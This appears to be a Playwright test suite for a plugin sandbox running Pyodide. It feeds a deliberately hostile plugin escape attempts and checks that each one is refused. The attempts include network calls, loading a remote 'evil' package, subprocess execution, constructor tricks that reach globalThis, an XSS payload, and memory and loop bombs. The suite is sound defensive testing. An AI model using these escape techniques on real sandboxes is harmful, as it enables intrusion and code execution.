import { BenchPage } from './support/bench.ts';
import { expect, test } from './support/test.ts';

/** What the code of a plugin that means harm can do: nothing, and it is told. */

const MANIFEST = '{"id": "attacker", "version": "0.0.1", "meta": {"label": "Attacker", "icon": "fas fa-bug"}}';

/** A plugin with one model, whose file is run as DSS runs it. */
function attackingPlugin(): readonly (readonly [string, string])[] {
  return [
    ['plugin.json', MANIFEST],
    ['python-llms/evil/llm.json', '{"meta": {"label": "Evil"}, "params": []}'],
    [
      'python-llms/evil/llm.py',
      'from dataiku.llm.python import BaseLLM\n\n\nclass Evil(BaseLLM):\n    def process(self, query, settings, trace):\n        return {"text": "ok"}\n',
    ],
  ];
}

/** Runs each attempt on its own and prints what came of it. `reached` must never be printed. */
function attempts(lines: Readonly<Record<string, string>>): string {
  const blocks = Object.entries(lines).map(([name, code]) => {
    const body = code
      .split('\n')
      .map((line) => `    ${line}`)
      .join('\n');
    return `try:\n${body}\n    print("${name}: reached")\nexcept BaseException as error:\n    print("${name}: refused")\n`;
  });
  return blocks.join('\n');
}

test('the browser around Python is out of reach, and each attempt is reported', async ({ page }) => {
  const bench = new BenchPage(page);
  await bench.openPlugin(attackingPlugin());
  await bench.openTest();
  await bench.show('Notebook');
  const printed = await bench.runFirstCell(
    attempts({
      'js fetch': 'import js\njs.fetch("https://example.com/")',
      'js from-import': 'from js import XMLHttpRequest\nXMLHttpRequest.new()',
      run_js: 'from pyodide.code import run_js\nrun_js("self.fetch")',
      indexedDB: 'import js\njs.indexedDB.open("plugsmith")',
      caches: 'import js\njs.caches.keys()',
      BroadcastChannel: 'import js\njs.BroadcastChannel.new("x").postMessage("y")',
      postMessage: 'import js\njs.postMessage("forged")',
      importScripts: 'import js\njs.importScripts("https://example.com/x.js")',
      'globalThis by a constructor':
        'import pyodide_js\nrun = pyodide_js.runPython.constructor\nassert run is not None\nrun("return globalThis")()',
      'constructor of an object':
        'from pyodide.ffi import to_js\nmake = to_js({}).constructor.constructor\nassert make is not None\nmake("return globalThis")()',
      'pyodide fetch': 'from pyodide.http import pyfetch\nimport asyncio\nasyncio.run(pyfetch("https://example.com/"))',
      'pyodide open_url': 'from pyodide.http import open_url\nopen_url("https://example.com/")',
      'remote package':
        'import pyodide_js, asyncio\nfrom pyodide.ffi import run_sync\nrun_sync(pyodide_js.loadPackage("https://example.com/evil-1.0-py3-none-any.whl"))\nimport evil',
      urllib: 'import urllib.request\nurllib.request.urlopen("https://example.com/", timeout=2)',
      socket: 'import socket\nsocket.create_connection(("example.com", 443), timeout=1)',
      subprocess: 'import subprocess\nsubprocess.run(["id"])',
      'the way to the network of the bench':
        'import gc\nhosts = [o for o in gc.get_objects() if type(o).__name__ == "Host"]\nfrom plugsmith.wire.browser_fetch import fetch_of\nfetch_of(hosts[0].send)({"method": "GET", "url": "https://example.com/", "headers": {}, "body": b""})',
    }),
  );
  expect(printed).not.toContain('reached');
  expect(printed.match(/: refused/g)).toHaveLength(17);
  await bench.showResult('Checks');
  const checks = page.getByRole('tabpanel', { name: /Checks/ });
  await expect(checks).toContainText('The code reached for what it must not have');
  for (const name of ['js.fetch', 'js.XMLHttpRequest', 'js.indexedDB', 'js.caches', 'js.postMessage']) {
    await expect(checks).toContainText(name);
  }
});

test('what is forged stays inside: events, replies, other plugins and their secrets', async ({ page }) => {
  const bench = new BenchPage(page);
  await bench.openPlugin(attackingPlugin());
  await bench.openTest();
  await bench.show('Notebook');
  const printed = await bench.runFirstCell(`import gc, json, os, pathlib
host = [o for o in gc.get_objects() if type(o).__name__ == "Host"][0]
host.on_event("no json")
host.on_event("[1, 2]")
host.on_event(json.dumps({"type": "output", "stream": "stdout", "text": "<img src=x onerror=alert(1)>"}))
host.on_event(json.dumps({"type": "wire", "exchange": {"id": 1, "url": 7, "chunks": "x"}}))
host.on_event(json.dumps({"type": "unheard of"}))
print(sorted(p.name for p in pathlib.Path("/plugins").iterdir()), dict(host.instance.plugins).keys())
`);
  expect(printed).toContain('<img src=x onerror=alert(1)>');
  expect(printed).toContain("['plugin'] dict_keys(['attacker'])");
  // A reply of the attacker's own making is none.
  await bench.runFirstCell(`import plugsmith.host
plugsmith.host.Host.call = lambda self, request: "[]"`);
  const first = page.getByRole('listitem', { name: 'Cell 1', exact: true });
  await page.getByRole('textbox', { name: 'Code of cell 1' }).press('Shift+Enter');
  await expect(first.getByText('What came back is no reply of the bench')).toBeVisible();
  await expect(page.getByRole('heading', { level: 1, name: 'Test' })).toBeAttached();
});

test('floods, bombs and endless loops end, and the page goes on', async ({ page }) => {
  const bench = new BenchPage(page);
  await bench.openPlugin(attackingPlugin());
  await bench.openTest();
  await bench.show('Notebook');
  const first = page.getByRole('listitem', { name: 'Cell 1', exact: true });

  await test.step('a flood of output is cut', async () => {
    await bench.runFirstCell('for _ in range(300_000):\n    print("x" * 100)');
    await expect(first.getByText(/Only the first part of the output is shown/)).toBeVisible();
  });
  await test.step('a bomb meets the limit of memory', async () => {
    const printed = await bench.runFirstCell(
      'try:\n    held = [bytes(64_000_000) for _ in range(100)]\nexcept MemoryError:\n    print("no more memory")',
    );
    expect(printed).toContain('no more memory');
  });
  await test.step('an endless loop is stopped, and Python is ready again', async () => {
    const cell = page.getByRole('textbox', { name: 'Code of cell 1' });
    await cell.fill('while True:\n    pass');
    await cell.press('Shift+Enter');
    await expect(first.getByText('Running')).toBeVisible();
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    await expect(first.getByText('Stopped')).toBeVisible();
    await bench.waitUntilReady();
    expect(await bench.runFirstCell('print(6 * 7)')).toContain('42');
  });
});
